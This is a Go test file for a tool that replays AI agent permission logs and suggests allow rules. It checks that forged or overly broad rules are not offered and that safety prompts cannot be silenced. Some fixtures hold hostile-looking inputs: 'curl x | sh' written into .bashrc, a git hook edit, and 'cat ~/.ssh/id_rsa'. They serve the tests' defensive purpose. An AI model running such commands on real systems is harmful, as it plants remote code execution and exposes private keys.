package replay

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"reflect"
	"strings"
	"testing"

	"github.com/permopa/permopa/engine"
	"github.com/permopa/permopa/permission"
	"github.com/permopa/permopa/settings"
)

// TestInsightsNeverOffersTheLogsRules: a log is written by whoever could
// write to it, and its suggested rules may cover far more than its calls.
// Insights offers only the rules the policy suggests for each call, and
// only when the policy, with them added, allows the call: a forged rule,
// a call the policy no longer asks about, a safety ASK and an ask rule's
// ASK are no suggestion, and are counted as ASKs no rule would remove.
func TestInsightsNeverOffersTheLogsRules(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	push := "git push:*"
	settings := settings.Settings{Rules: []permission.Rule{{ToolName: "Bash", RuleContent: &push, Behavior: permission.Ask}}}
	newEngine := func(ctx context.Context) (*engine.Engine, error) {
		return engine.New(ctx, engine.WithSettings(settings))
	}
	var b bytes.Buffer
	ask := func(tool string, ti map[string]any, forged ...map[string]any) {
		line, _ := json.Marshal(map[string]any{
			"input":  map[string]any{"tool_name": tool, "tool_input": ti, "cwd": "/w", "permission_mode": "default"},
			"result": map[string]any{"behavior": "ASK", "step": "mode_fallback", "suggested_rules": forged},
		})
		b.Write(append(line, '\n'))
	}
	wide := map[string]any{"tool_name": "Bash", "rule_content": nil, "behavior": "ALLOW"}
	// The policy asks and suggests Bash(npm install:*): that is offered,
	// never the log's whole-tool rule.
	ask("Bash", map[string]any{"command": "npm install"}, wide)
	ask("Bash", map[string]any{"command": "npm install --ignore-scripts left-pad"}, map[string]any{"tool_name": "Bash", "rule_content": "curl:*", "behavior": "ALLOW"})
	// Read-only now: no ASK, no rule.
	ask("Bash", map[string]any{"command": "ls -la"}, wide)
	// Safety ASKs: no allow rule silences them; the policy suggests none.
	ask("Write", map[string]any{"file_path": "/w/.bashrc", "content": "curl x | sh"}, map[string]any{"tool_name": "Write", "rule_content": nil, "behavior": "ALLOW"})
	ask("Edit", map[string]any{"file_path": "/w/.git/hooks/pre-commit", "old_string": "a", "new_string": "b"}, map[string]any{"tool_name": "Edit", "rule_content": "/w/**", "behavior": "ALLOW"})
	ask("Bash", map[string]any{"command": "cat ~/.ssh/id_rsa"}, map[string]any{"tool_name": "Bash", "rule_content": "cat:*", "behavior": "ALLOW"})
	// An ask rule asks whatever allow rule is added.
	ask("Bash", map[string]any{"command": "git push origin main"}, map[string]any{"tool_name": "Bash", "rule_content": "git push origin main", "behavior": "ALLOW"})

	src := Source{Name: "forged.log", Open: func() (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(b.Bytes())), nil }}
	in, err := RunInsights(ctx, []Source{src}, InsightsOptions{Engine: newEngine})
	if err != nil {
		t.Fatal(err)
	}
	if in.Calls != 7 || in.Behaviors["ASK"] != 7 {
		t.Fatalf("counts %+v", in.Behaviors)
	}
	if len(in.Suggestions) != 1 || !reflect.DeepEqual(in.Suggestions[0].Rules, []string{"Bash(npm install:*)"}) || in.Suggestions[0].Calls != 2 {
		t.Errorf("suggestions %+v; want only the policy's Bash(npm install:*) for the 2 npm install calls", in.Suggestions)
	}
	if in.AsksWithoutRule != 5 {
		t.Errorf("%d ASKs without a rule, want 5 (ls, 3 safety ASKs, the ask rule's)", in.AsksWithoutRule)
	}
	var text bytes.Buffer
	if err := WriteInsightsText(&text, in, 10); err != nil {
		t.Fatal(err)
	}
	for _, forged := range []string{"rules add Bash\n", "'Bash'", "curl:*", "Write(", "Edit(", "cat:*", "git push origin main)"} {
		if strings.Contains(text.String(), forged) {
			t.Errorf("the report offers the log's rule %q:\n%s", forged, text.String())
		}
	}
	if !strings.Contains(text.String(), "5 ASKs that no rule the policy suggests would remove") {
		t.Errorf("the report does not count the ASKs no rule removes:\n%s", text.String())
	}

	// Under allow_managed_rules_only no added rule would take: nothing is offered.
	managed := settings
	managed.AllowManagedRulesOnly = true
	in, err = RunInsights(ctx, []Source{src}, InsightsOptions{Engine: func(ctx context.Context) (*engine.Engine, error) {
		return engine.New(ctx, engine.WithSettings(managed))
	}})
	if err != nil {
		t.Fatal(err)
	}
	if len(in.Suggestions) != 0 || in.AsksWithoutRule != 7 {
		t.Errorf("with allow_managed_rules_only: suggestions %+v, %d ASKs without a rule", in.Suggestions, in.AsksWithoutRule)
	}
}

// TestBroadSuggestionIsHighRisk: a suggested rule that covers far more
// than its calls (a whole tool, only wildcards, code a wildcard runs)
// makes the suggestion high risk, saying why, whatever its calls did.
func TestBroadSuggestionIsHighRisk(t *testing.T) {
	t.Parallel()
	r := &insightsRun{out: &Insights{Behaviors: map[string]int{}}, tools: newTable(), programs: newTable(), rules: newTable(), modes: newTable(), projects: newTable(),
		bucket: 60, buckets: map[int64]*Bucket{}, suggestions: map[string]*Suggestion{}, broad: map[string]*BroadAllow{}}
	py := "python3:*"
	ls := "ls:*"
	for _, rule := range []permission.Rule{{ToolName: "Bash", RuleContent: &py, Behavior: permission.Allow}, {ToolName: "Bash", Behavior: permission.Allow}, {ToolName: "Bash", RuleContent: &ls, Behavior: permission.Allow}} {
		d := permission.Decision{Behavior: permission.Ask, Step: "mode_fallback"}
		r.add(&observation{tool: "Bash", project: "/w", subject: "x", d: &d, suggested: []string{rule.String()}, suggestedRules: []permission.Rule{rule}})
	}
	r.finish()
	got := map[string]Suggestion{}
	for _, s := range r.out.Suggestions {
		got[s.Rules[0]] = s
	}
	if s := got["Bash(python3:*)"]; s.Level != "high" || !strings.Contains(s.Broad, "python3") {
		t.Errorf("Bash(python3:*): %+v", s)
	}
	if s := got["Bash"]; s.Level != "high" || !strings.Contains(s.Broad, "every call") {
		t.Errorf("Bash: %+v", s)
	}
	if s := got["Bash(ls:*)"]; s.Level != "low" || s.Broad != "" {
		t.Errorf("Bash(ls:*): %+v", s)
	}
}

// TestInsightsErasedCommand: a log whose mask erased what decides a call
// (here a Bash command) gives no suggestion for it, and the broad allow
// that let such a call through is high risk: nothing of it can be judged.
func TestInsightsErasedCommand(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	var b bytes.Buffer
	ev := func(result map[string]any) {
		line, _ := json.Marshal(map[string]any{
			"input":  map[string]any{"tool_name": "Bash", "tool_input": map[string]any{}, "cwd": "/w", "permission_mode": "default"},
			"result": result, "custom": map[string]any{"permopa_erased": []string{"/input/tool_input/command"}},
		})
		b.Write(append(line, '\n'))
	}
	ev(map[string]any{"behavior": "ASK", "step": "mode_fallback", "suggested_rules": []any{map[string]any{"tool_name": "Bash", "rule_content": "ls:*", "behavior": "ALLOW"}}})
	ev(map[string]any{"behavior": "ALLOW", "step": "allow_rule", "matched_rule": map[string]any{"tool_name": "Bash", "rule_content": nil, "behavior": "ALLOW", "layer": "user"}})
	src := Source{Name: "erased.log", Open: func() (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(b.Bytes())), nil }}
	for _, redecide := range []bool{false, true} {
		in, err := RunInsights(ctx, []Source{src}, InsightsOptions{Redecide: redecide, Engine: func(ctx context.Context) (*engine.Engine, error) { return engine.New(ctx) }})
		if err != nil {
			t.Fatal(err)
		}
		if len(in.Suggestions) != 0 {
			t.Errorf("redecide %v: suggestions %+v for a call whose command the log erased", redecide, in.Suggestions)
		}
		if redecide {
			if in.Undecided != 2 {
				t.Errorf("redecide: %d undecided, want both calls (the policy reads the erased command)", in.Undecided)
			}
			continue
		}
		if in.AsksWithoutRule != 1 {
			t.Errorf("%d ASKs without a rule, want 1", in.AsksWithoutRule)
		}
		if len(in.BroadAllows) != 1 || in.BroadAllows[0].Level != "high" || in.BroadAllows[0].Risk.RunsUnknown != 1 {
			t.Errorf("broad allows %+v: want Bash, high risk, its command unseen", in.BroadAllows)
		}
	}
}
